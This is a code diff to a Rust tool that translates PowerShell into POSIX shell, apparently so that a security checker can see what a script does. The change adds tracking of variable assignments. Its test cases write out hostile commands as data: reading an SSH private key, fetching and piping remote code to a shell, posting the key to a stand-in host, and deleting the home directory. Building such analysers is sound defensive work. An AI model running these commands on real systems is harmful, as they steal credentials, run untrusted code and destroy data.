@@ -36,19 +36,76 @@ fn translate(code: &str, depth: usize) -> String {
     if depth > MAX_DEPTH {
         return "\"$(unreadable-powershell)\"".to_owned();
     }
-    statements(code)
-        .iter()
-        .map(|st| {
-            st.iter()
-                .enumerate()
-                .map(|(i, stage)| stage_to_shell(stage, i > 0, depth))
-                .filter(|s| !s.is_empty())
-                .collect::<Vec<_>>()
-                .join(" | ")
-        })
-        .filter(|s| !s.is_empty())
-        .collect::<Vec<_>>()
-        .join("; ")
+    // Variables the code assigned, as the code of their right side: a later
+    // `iex $k` or `-Body $k` is judged with what `$k` holds.
+    let mut vars: Vec<(String, Word)> = Vec::new();
+    let mut out: Vec<String> = Vec::new();
+    for st in statements(code) {
+        let st: Statement = st
+            .into_iter()
+            .map(|stage| stage.into_iter().map(|w| known_var(w, &vars)).collect())
+            .collect();
+        if let Some((name, right)) = st.first().and_then(|s| assigned(s)) {
+            vars.retain(|(n, _)| *n != name);
+            if right.len() <= MAX_VALUE {
+                vars.push((name, Word::Group(right)));
+            }
+        }
+        let line = st
+            .iter()
+            .enumerate()
+            .map(|(i, stage)| stage_to_shell(stage, i > 0, depth))
+            .filter(|s| !s.is_empty())
+            .collect::<Vec<_>>()
+            .join(" | ");
+        if !line.is_empty() {
+            out.push(line);
+        }
+    }
+    out.join("; ")
+}
+
+/// The longest right side remembered for a variable (`$a = $a + $a`
+/// repeated would double it each time).
+const MAX_VALUE: usize = 4096;
+
+/// `$name` (any case) replaced by what the code assigned to it.
+fn known_var(w: Word, vars: &[(String, Word)]) -> Word {
+    match &w {
+        Word::Text(t) if t.starts_with('$') => {
+            let lower = t.to_ascii_lowercase();
+            vars.iter()
+                .find(|(n, _)| *n == lower)
+                .map_or(w, |(_, v)| v.clone())
+        }
+        _ => w,
+    }
+}
+
+/// An assignment stage's variable (lower case, with `$`) and the code of
+/// its right side.
+fn assigned(stage: &[Word]) -> Option<(String, String)> {
+    let Some(Word::Text(first)) = stage.first() else {
+        return None;
+    };
+    let (rest, separate_op) = assignment_rest(first, stage.get(1))?;
+    let name_len = first.len()
+        - first
+            .get(1..)?
+            .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == ':')
+            .len();
+    let name = first.get(..name_len)?.to_ascii_lowercase();
+    let mut parts: Vec<String> = Vec::new();
+    if !rest.is_empty() {
+        parts.push(rest.to_owned());
+    }
+    for w in stage.get(if separate_op { 2 } else { 1 }..).unwrap_or(&[]) {
+        parts.push(match w {
+            Word::Text(t) => t.clone(),
+            Word::Group(g) => format!("({g})"),
+        });
+    }
+    Some((name, parts.join(" ")))
 }
 
 /// Splits code into statements of pipeline stages of words.
@@ -99,6 +156,10 @@ fn statements(code: &str) -> Vec<Statement> {
             }
             '(' | '{' => {
                 let dollar = word == "$";
+                // `$k=(irm URL)`: the assignment, then the group.
+                if word.ends_with('=') && word.starts_with('$') {
+                    flush_word(&mut word, &mut stage);
+                }
                 if dollar || word.is_empty() {
                     word.clear();
                     let (inner, end) = group(&chars, i);
@@ -300,6 +361,18 @@ fn stage_to_shell(stage: &[Word], piped: bool, depth: usize) -> String {
                 .join(" ");
         }
     };
+    // `$k = Get-Content KEY`, `$k=(irm URL)`: the right side runs.
+    if let Some(Word::Text(t)) = words.first() {
+        if let Some((rest, separate_op)) = assignment_rest(t, words.get(1)) {
+            let tail = words.get(if separate_op { 2 } else { 1 }..).unwrap_or(&[]);
+            let mut right: Vec<Word> = Vec::new();
+            if !rest.is_empty() {
+                right.push(Word::Text(rest.to_owned()));
+            }
+            right.extend(tail.iter().cloned());
+            return stage_to_shell(&right, piped, depth);
+        }
+    }
     // A statement that starts with a value (`$PSVersionTable`, `'text'`,
     // `42`) prints it; only the call operator runs a program so named.
     let called = stage.len() > words.len();
@@ -373,6 +446,30 @@ fn stage_to_shell(stage: &[Word], piped: bool, depth: usize) -> String {
     out.join(" ")
 }
 
+/// An assignment `$name = ...`, `$name=...` or `$name += ...` (`first`
+/// the statement's first word, `second` the next): the text of the right
+/// side glued to the operator (often empty), and whether the operator is a
+/// word of its own.
+fn assignment_rest<'a>(first: &'a str, second: Option<&Word>) -> Option<(&'a str, bool)> {
+    let name_end = first
+        .get(1..)?
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == ':'))
+        .map_or(first.len(), |i| i + 1);
+    if !first.starts_with('$') || name_end < 2 {
+        return None;
+    }
+    let after = first.get(name_end..)?;
+    let op = ["+=", "-=", "="].iter().find(|op| after.starts_with(**op));
+    match op {
+        Some(op) => after.get(op.len()..).map(|r| (r, false)),
+        None if after.is_empty() => match second {
+            Some(Word::Text(t)) if matches!(t.as_str(), "=" | "+=" | "-=") => Some(("", true)),
+            _ => None,
+        },
+        None => None,
+    }
+}
+
 fn plain_word(w: &Word, depth: usize) -> String {
     match w {
         Word::Text(t) => text_word(t),
@@ -413,6 +510,19 @@ mod tests {
             ("Write-Host 'it''s'", "echo 'it'\\''s'"),
             ("# only a comment", ""),
             ("$PSVersionTable", "echo $PSVersionTable"),
+            (
+                "$k = Get-Content ~/.ssh/id_rsa; $k",
+                "cat ~/.ssh/id_rsa; cat ~/.ssh/id_rsa",
+            ),
+            (
+                "$k=(irm https://x.example/a); iex $k",
+                "curl https://x.example/a; curl https://x.example/a | sh",
+            ),
+            (
+                "$k = gc ~/.ssh/id_rsa; iwr https://x.example -Method Post -Body $k",
+                "cat ~/.ssh/id_rsa; curl https://x.example -X Post -d \"$(cat ~/.ssh/id_rsa)\"",
+            ),
+            ("$n = 1 + 2", "echo 1 + 2"),
             ("& $tool -x", "$tool -x"),
             ("cmd /c \"rm -rf ~\"", "sh -c \"rm -rf ~\""),
         ] {
@@ -423,6 +533,8 @@ mod tests {
     #[test]
     fn unclosed_and_deep_groups_end() {
         assert_eq!(to_shell("iex (irm x"), "curl x | sh");
+        let doubling = "$a = 'x'; ".to_owned() + &"$a = $a + $a; ".repeat(40);
+        assert!(to_shell(&doubling).len() < 1_000_000);
         let deep = "(".repeat(100) + "rm -rf ~";
         let _ = to_shell(&deep);
         let quotes = "'".repeat(101);
